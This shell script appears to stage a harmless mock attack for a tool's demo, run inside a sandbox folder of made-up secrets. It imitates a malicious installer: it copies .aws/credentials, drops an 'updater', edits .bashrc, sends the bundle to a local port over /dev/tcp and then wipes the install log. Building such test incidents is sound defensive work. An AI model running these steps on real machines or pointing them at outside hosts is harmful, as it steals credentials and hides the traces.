#!/bin/sh
# The staged incident of `lanner demo`. Everything happens inside the directory given as the first argument, which holds
# made-up secrets and a made-up log, and towards a port on this machine given as the second. Nothing else is touched.
set -eu
home=$1
port=$2
export HOME="$home"
cd "$home"

echo "[install] checking the system"
sh -c 'uname -s; id -u' >system.txt

echo "[install] reading the cloud credentials"
cat .aws/credentials >.cache/bundle

echo "[install] dropping and running an updater"
cp /bin/true .cache/updater
chmod 755 .cache/updater
.cache/updater

echo "[install] staying: a line in the shell's start-up file"
echo 'alias ls="ls --color=auto"' >>.bashrc

if command -v bash >/dev/null 2>&1; then
    echo "[install] sending the bundle out"
    bash -c 'exec 3<>"/dev/tcp/127.0.0.1/$1" && cat .cache/bundle >&3' connect "$port"
fi

echo "[install] covering the tracks"
: >log/install.log
rm .cache/bundle

echo "[install] done"
